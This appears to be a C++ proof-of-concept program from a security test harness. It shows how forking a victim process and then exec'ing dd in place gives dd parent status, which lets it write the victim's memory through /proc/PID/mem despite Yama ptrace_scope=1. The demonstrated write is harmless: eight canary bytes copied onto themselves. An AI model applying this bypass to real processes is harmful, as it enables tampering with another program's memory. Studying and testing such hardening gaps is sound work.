// The Yama ptrace_scope=1 bypass with a memory file: start the victim as a child, then exec dd
// (same pid: dd is now the victim's parent) to write the victim's memory through
// /proc/PID/mem. dd copies 8 bytes of the victim's canary onto themselves, so the victim is
// unchanged. Prints the report before the exec; the victim keeps running (reparented) until it
// is killed or its --seconds pass.
//   dd_into_child [--victim PATH] [--seconds S] [--dd PATH]
#include <fcntl.h>
#include <limits.h>

#include "common.h"

namespace {

// The directory of this program: the victim is built next to it.
std::string own_dir() {
  char buf[PATH_MAX];
  ssize_t n = readlink("/proc/self/exe", buf, sizeof(buf) - 1);
  if (n <= 0) attack::die("readlink /proc/self/exe");
  std::string path(buf, static_cast<std::size_t>(n));
  return path.substr(0, path.rfind('/'));
}

// Starts the victim with stdout on a pipe (stderr to /dev/null: it must not hold the caller's
// pipes open) and returns its report line.
std::string start_victim(const std::string& victim, const std::string& seconds, pid_t& pid) {
  int fds[2];
  if (pipe(fds) != 0) attack::die("pipe");
  pid = fork();
  if (pid < 0) attack::die("fork");
  if (pid == 0) {
    int devnull = open("/dev/null", O_RDWR);
    dup2(fds[1], 1);
    dup2(devnull, 2);
    dup2(devnull, 0);
    close(fds[0]);
    execl(victim.c_str(), victim.c_str(), "--seconds", seconds.c_str(), nullptr);
    _exit(127);
  }
  close(fds[1]);
  std::string line;
  char c;
  while (read(fds[0], &c, 1) == 1 && c != '\n') line.push_back(c);
  close(fds[0]);
  return line;
}

// "canary":"0x..." from the victim's report.
uint64_t canary_of(const std::string& report) {
  auto at = report.find("\"canary\":\"");
  if (at == std::string::npos) {
    errno = 0;
    attack::die("victim report without canary: " + report);
  }
  return std::strtoull(report.c_str() + at + 10, nullptr, 16);
}

}  // namespace

int main(int argc, char** argv) {
  attack::Args args = attack::parse_args(argc, argv, false, "[--victim PATH] [--seconds S] [--dd PATH]");
  std::string victim = args.get("victim", own_dir() + "/victim");
  std::string dd = args.get("dd", "/usr/bin/dd");
  pid_t child = 0;
  uint64_t canary = canary_of(start_victim(victim, args.get("seconds", "60"), child));
  std::string mem = "/proc/" + std::to_string(child) + "/mem";
  std::string offset = std::to_string(canary);
  attack::Report("dd_into_child")
      .add_number("tracer_pid", getpid())
      .add_number("target_pid", child)
      .add_string("file", mem)
      .add_string("canary", attack::hex(canary))
      .print();
  std::string in = "if=" + mem, out = "of=" + mem, skip = "skip=" + offset, seek = "seek=" + offset;
  execl(dd.c_str(), dd.c_str(), in.c_str(), out.c_str(), "bs=1", "count=8", skip.c_str(),
        seek.c_str(), "conv=notrunc", "status=none", nullptr);
  attack::die("exec " + dd);
}
